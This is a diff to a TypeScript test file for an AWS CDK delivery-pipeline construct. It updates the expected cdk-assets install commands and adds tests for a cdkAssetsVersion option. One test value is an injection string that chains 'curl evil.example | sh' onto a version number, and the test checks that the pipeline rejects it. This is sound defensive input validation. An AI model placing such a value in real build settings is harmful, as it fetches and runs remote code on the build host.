@@ -63,6 +63,9 @@ describe('DeploymentTarget.cdkStage', () => {
     const projects = Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[];
     const assetProject = projects.find(pr => /Asset publishing/.test(pr.Properties.Description));
     const spec = JSON.parse(assetProject.Properties.Source.BuildSpec);
+    // the newest cdk-assets: 2.x (the newest of that major is 2.155) refuses the asset manifests of
+    // aws-cdk-lib 2.257 and later ("Cloud assembly schema version mismatch"), so every publish failed
+    expect(spec.phases.install.commands).toEqual(['npm install -g cdk-assets@latest']);
     expect(spec.phases.build.commands).toEqual([
       expect.stringMatching(/^cdk-assets --path "cdk\.out\/assembly-Staging\/StagingApi[A-Z0-9]*\.assets\.json" --verbose publish$/),
       expect.stringMatching(/^cdk-assets --path "cdk\.out\/assembly-Prod\/ProdApi[A-Z0-9]*\.assets\.json" --verbose publish$/),
@@ -106,7 +109,7 @@ describe('DeploymentTarget.cdkStage', () => {
     expect(projects.filter(([, p]) => /Asset publishing/.test(p.Properties.Description))).toEqual([]);
     const [buildId, build] = projects.find(([, p]) => /^Build of /.test(p.Properties.Description))!;
     const spec = JSON.parse(build.Properties.Source.BuildSpec);
-    expect(spec.phases.install.commands).toContain('npm install -g cdk-assets@2');
+    expect(spec.phases.install.commands).toContain('npm install -g cdk-assets@latest');
     expect(spec.phases.install.commands[0]).toBe('npm ci');
     expect(spec.phases.build.commands).toEqual([
       'npm test',
@@ -122,6 +125,36 @@ describe('DeploymentTarget.cdkStage', () => {
     ]);
     expect(buildId).toMatch(/^OrdersBuildProject/);
     expect(pipeline.describe().buildStep.details).toContain('then publishes the CDK stages\' assets (publishAssetsInBuild)');
+  });
+
+  test('cdkAssetsVersion pins the cdk-assets that publishes, in the PublishAssets action and in the build', () => {
+    const installOf = (publishAssetsInBuild: boolean, cdkAssetsVersion: string) => {
+      const { stack, staging } = setup();
+      new DeliveryPipeline(stack, 'Orders', props({
+        publishAssetsInBuild, cdkAssetsVersion, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
+      }));
+      const projects = Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[];
+      const project = projects.find(pr => (publishAssetsInBuild ? /^Build of / : /Asset publishing/).test(pr.Properties.Description));
+      return JSON.parse(project.Properties.Source.BuildSpec).phases.install.commands;
+    };
+    expect(installOf(false, '4.7.3')).toEqual(['npm install -g cdk-assets@4.7.3']);
+    expect(installOf(true, '4')).toEqual(['npm ci', 'npm install -g cdk-assets@4']);
+    expect(installOf(false, '^4.7')).toEqual(['npm install -g cdk-assets@^4.7']);
+  });
+
+  test.each([
+    ['4; curl evil.example | sh', "'4; curl evil.example | sh'"],
+    ['>=4', "'>=4'"],
+    ['', "''"],
+  ])('cdkAssetsVersion %j is refused: it follows npm install -g cdk-assets@ in a shell', (value, shown) => {
+    const { stack, staging } = setup();
+    const message = errorOf(() => new DeliveryPipeline(stack, 'Orders', props({
+      cdkAssetsVersion: value, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
+    })));
+    expect(message).toBe(value === ''
+      ? `'PipelineStack/Orders': cdkAssetsVersion must not be empty, got ${shown}. Pass an npm version or tag such as '4', '4.7.3' or 'latest'.`
+      : `'PipelineStack/Orders': cdkAssetsVersion must be an npm version or dist-tag of cdk-assets (it follows 'npm install -g cdk-assets@'), got ${shown}. `
+        + "Pass an npm version or tag such as '4', '4.7.3' or 'latest', or leave it out for 'latest'.");
   });
 
   test('a check named PublishAssets clashes with the asset action', () => {
